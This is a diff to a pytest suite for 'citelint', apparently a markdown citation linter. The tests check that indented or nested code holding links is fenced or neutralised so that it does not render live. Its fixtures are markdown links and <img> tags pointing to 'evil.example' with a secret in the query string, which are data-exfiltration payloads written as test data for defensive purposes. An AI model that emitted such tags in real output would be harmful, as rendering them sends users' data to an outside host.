@@ -8,6 +8,7 @@ import pytest
 
 import citelint
 from citelint.checks.syntax import executed_languages
+from tests.renderers.matrix import outside, sinks_by_renderer
 
 MANIFEST = citelint.Manifest.from_dict({"version": 1, "run": {"id": "run"}, "sources": []})
 LEAK = "https://evil.example/p?d=secret"
@@ -33,7 +34,7 @@ def _codes(result: citelint.Result) -> set[str]:
         f"```html\n<img src='{LEAK}'>\n```\n",
         f"````\n```\n[x]({LEAK})\n```\n````\n",
         f"~~~~\n{LEAK}\n~~~~\n",
-        f"    {LEAK}\n    [x][1]\n",
+        "    plain [1] 【4:0†source】\n",
         f"Write `[x]({LEAK})` or `{LEAK}`.\n",
         f"- item\n\n  ```\n  {LEAK}\n  ```\n",
         "> ```c++\n> a[1]\n> ```\n",
@@ -64,6 +65,43 @@ def test_a_fence_around_something_live_is_written_so_that_all_see_it(text: str, 
     assert result.text == fixed
     assert _codes(result) == {"CL304"}
     assert _fix(fixed).text == fixed
+
+
+LINK = f"[x]({LEAK})"
+TAG = f"<img src={LEAK}>"
+
+
+@pytest.mark.parametrize(
+    ("text", "fixed"),
+    [
+        (f"a\n\n    {LEAK}\n\n      {TAG}\nb\n", f"a\n\n```\n{LEAK}\n\n  {TAG}\n```\nb\n"),
+        (f">\n    >{LINK}", f">\n```\n>{LINK}\n```"),
+        (f"|a|\n|-|\n    ```{LINK}\n", f"|a|\n|-|\n````\n```{LINK}\n````\n"),
+        (f"x\n:   y\n\n\t{LINK}\n", f"x\n:   y\n\n```\n{LINK}\n```\n"),
+        (f" ```\n {LINK}\n ```\n", f"```\n{LINK}\n```\n"),
+        (f"x ``{LINK}\n: y`` z\n", f"x ``{LINK} : y`` z\n"),
+        (f"> x `a\n> {TAG}` z\n", f"> x `a {TAG}` z\n"),
+        (f"> ```\n> {LINK}", f"> ```\n> {LINK}\n> ```"),
+        (f"$$\n```\n$$\n{LINK}\n```\n", f"&#36;&#36;\n```\n$$\n{LINK}\n```\n"),
+    ],
+)
+def test_code_that_some_read_as_text_is_written_so_that_all_see_code(text: str, fixed: str) -> None:
+    result = _fix(text)
+    assert result.text == fixed
+    assert _codes(result) == {"CL304"}
+    assert _fix(fixed).text == fixed
+
+
+@pytest.mark.parametrize(
+    "text", [f"-     {LINK}\n", f"1.  \t{TAG}\n      y\n", f"> a\n>\n>     {LINK}\n>\n>     b\n"]
+)
+def test_indented_code_deep_in_blocks_becomes_text(text: str) -> None:
+    result = _fix(text)
+    assert _codes(result) == {"CL304"}
+    assert LEAK not in result.text
+    assert _fix(result.text).text == result.text
+    for name, found in sinks_by_renderer(result.text):
+        assert outside([found], []) == [], name
 
 
 def test_a_fence_around_nothing_live_keeps_its_marks() -> None:
